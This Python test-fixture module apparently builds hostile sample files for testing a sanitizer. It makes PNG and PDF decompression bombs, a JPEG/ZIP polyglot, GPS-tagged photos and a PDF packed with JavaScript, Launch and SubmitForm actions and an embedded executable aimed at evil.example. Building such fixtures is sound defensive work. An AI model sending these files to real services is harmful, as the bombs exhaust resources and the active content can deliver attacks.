"""Files as attackers, phones and scanners make them. Built here, so that every byte is known."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, PngImagePlugin

MARK = b"PAYLOAD-7f3a-AFTER-THE-END"
GPS_MARK = "GPS-SECRET-27.99N-120.70E"


def picture(size: tuple[int, int] = (320, 240), mode: str = "RGB") -> Image.Image:
    """Something with edges and colours: a gradient with a dark corner, so that turning it shows."""
    image = Image.linear_gradient("L").resize(size).convert(mode)
    image.paste(Image.new(mode, (size[0] // 4, size[1] // 4)), (0, 0))
    return image


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (320, 240), **options: object) -> bytes:
    return saved(picture(size), "JPEG", **options)


def phone_jpeg(orientation: int = 1) -> bytes:
    """With Exif (place, maker, orientation), a comment, an XMP packet and bytes after the end of the image."""
    image = picture()
    exif = Image.Exif()
    exif[0x010F] = GPS_MARK
    exif[0x0112] = orientation
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (27.0, 59.0, 1.0)
    xmp = b"<x:xmpmeta>" + GPS_MARK.encode() + b"</x:xmpmeta>"
    return saved(image, "JPEG", exif=exif, comment=GPS_MARK, xmp=xmp) + MARK


def polyglot_zip(front: bytes) -> bytes:
    """A picture at the front and a valid archive at the back."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.cmd", MARK)
    return front + out.getvalue()


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", GPS_MARK)
    info.add_text("Long", GPS_MARK, zip=True)
    return saved(picture(), "PNG", pnginfo=info) + MARK


def png_bomb(width: int = 12_000, height: int = 12_000) -> bytes:
    """144 megapixels in some hundred kilobytes."""
    row = b"\0" + b"\0" * (width // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def png_that_lies() -> bytes:
    """Declares one pixel row of 20 and carries 200 MB of packed zeros."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"\0" * 1_048_576) for _ in range(200)) + packer.flush()
    header = struct.pack(">IIBBBBB", 20, 20, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    packed = zlib.compress(b"\0" * 100_000_000, 9)
    whole = saved(picture((20, 20)), "PNG")
    return whole[:33] + _chunk(b"zTXt", b"k\0\0" + packed) + whole[33:]


def animated(kind: str, frames: int = 60) -> bytes:
    pictures = [Image.new("RGB", (64, 64), (at * 4 % 256, 0, 0)) for at in range(frames)]
    return saved(pictures[0], kind, save_all=True, append_images=pictures[1:])


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


# --- PDF ---------------------------------------------------------------------------------------------
def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for number in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        pdf.pages[number].Contents = pdf.make_stream(b"0 0 1 rg 72 72 200 100 re f")
    return pdf


def pdf_bytes(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def pdf(pages: int = 1) -> bytes:
    return pdf_bytes(new_pdf(pages))


def javascript() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('" + MARK.decode() + "')"))


def armed_pdf() -> bytes:
    """Everything at once: scripts, launching, links, sending, media, attachments, forms, metadata, dead weight."""
    name, dic, arr, text = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String
    pdf = new_pdf(2)
    page = pdf.pages[0].obj
    launch = dic(S=name.Launch, F=text(MARK.decode()))
    attached = dic(Type=name.Filespec, F=text("run.exe"), EF=dic(F=pdf.make_stream(MARK)))
    square = arr([10, 10, 100, 100])
    link = dic(Type=name.Annot, Subtype=name.Link, Rect=square, A=dic(S=name.URI, URI=text("https://evil.example/")))
    sender = pdf.make_indirect(
        dic(Type=name.Annot, Subtype=name.Widget, Rect=square, AA=dic(U=javascript()), FT=name.Tx, T=text("a"))
    )
    media = dic(Type=name.Annot, Subtype=name.RichMedia, Rect=square, RichMediaContent=dic(Assets=attached))
    clip = dic(Type=name.Annot, Subtype=name.FileAttachment, Rect=square, FS=attached)
    page.Annots = pdf.make_indirect(arr([link, sender, media, clip]))
    page.AA = dic(O=launch)
    page.Metadata = pdf.make_stream(GPS_MARK.encode())
    page.Resources = dic(
        Properties=dic(MC0=dic(Next=javascript(), AF=arr([attached]))),
        XObject=dic(
            PS0=pdf.make_stream(MARK, Type=name.XObject, Subtype=name.PS),
            Far=pdf.make_stream(b"", Type=name.XObject, Subtype=name.Form, BBox=square, F=text("//evil.example/share")),
        ),
    )
    root = pdf.Root
    root.OpenAction = javascript()
    root.AA = dic(WC=javascript())
    root.Names = dic(
        JavaScript=dic(Names=arr([text("a"), javascript()])), EmbeddedFiles=dic(Names=arr([text("run.exe"), attached]))
    )
    submit = dic(S=name.SubmitForm, F=dic(FS=name.URL, F=text("https://evil.example/post")))
    root.AcroForm = dic(Fields=arr([sender]), XFA=pdf.make_stream(b"<xdp>" + MARK + b"</xdp>"), CO=arr([submit]))
    root.Outlines = dic(First=dic(Title=text("x"), A=dic(S=name.GoToR, F=text("//evil.example/x"))))
    pdf.docinfo["/Author"] = GPS_MARK
    return pdf_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)


def photographed_pdf() -> bytes:
    """A scanner app's page: one JPEG straight from the camera, notes and appendage included."""
    pdf = new_pdf()
    image = pdf.make_stream(
        phone_jpeg(), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=320, Height=240,
        ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8, Filter=pikepdf.Name.DCTDecode,
    )  # fmt: skip
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    pdf.pages[0].Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return pdf_bytes(pdf)


def stamped_pdf() -> bytes:
    """An electronic certificate: the seal is the appearance of a signature field."""
    name, dic, arr = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
    pdf = new_pdf()
    seal = pdf.make_stream(
        b"1 0 0 rg 0 0 50 50 re f % SEAL", Type=name.XObject, Subtype=name.Form, BBox=arr([0, 0, 50, 50])
    )
    field = dic(
        Type=name.Annot, Subtype=name.Widget, FT=name.Sig, T=pikepdf.String("seal"), Rect=arr([100, 100, 150, 150]),
        AP=dic(N=seal), F=4,
    )  # fmt: skip
    widget = pdf.make_indirect(field)
    pdf.pages[0].Annots = arr([widget])
    pdf.Root.AcroForm = dic(Fields=arr([widget]), SigFlags=3)
    return pdf_bytes(pdf)


def pdf_with_letter_a_as_names() -> bytes:
    """A font called /A with a glyph called /A and a picture called /B: names that also name actions."""
    name, dic, arr = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
    pdf = new_pdf()
    glyph = pdf.make_stream(b"500 0 0 0 500 500 d1 0 0 500 500 re f")
    font = dic(
        Type=name.Font, Subtype=name.Type3, FontBBox=arr([0, 0, 500, 500]), FontMatrix=arr([0.001, 0, 0, 0.001, 0, 0]),
        CharProcs=dic(A=glyph), FirstChar=65, LastChar=65, Widths=arr([500]),
        Encoding=dic(Type=name.Encoding, Differences=arr([65, name.A])),
    )  # fmt: skip
    box = pdf.make_stream(b"0 0 5 5 re f", Type=name.XObject, Subtype=name.Form, BBox=arr([0, 0, 5, 5]))
    pdf.pages[0].Resources = dic(Font=dic(A=pdf.make_indirect(font)), XObject=dic(B=box))
    pdf.pages[0].Contents = pdf.make_stream(b"BT /A 20 Tf (A) Tj ET /B Do")
    return pdf_bytes(pdf)


def pdf_bomb() -> bytes:
    """Page drawing that unpacks to 300 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 0 m " * 174_763) for _ in range(300)) + packer.flush()
    pdf = new_pdf()
    pdf.pages[0].Contents = pikepdf.Stream(pdf, packed, Filter=pikepdf.Name.FlateDecode)
    return pdf_bytes(pdf, recompress_flate=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def locked_pdf(*, user: str) -> bytes:
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="owner", user=user))
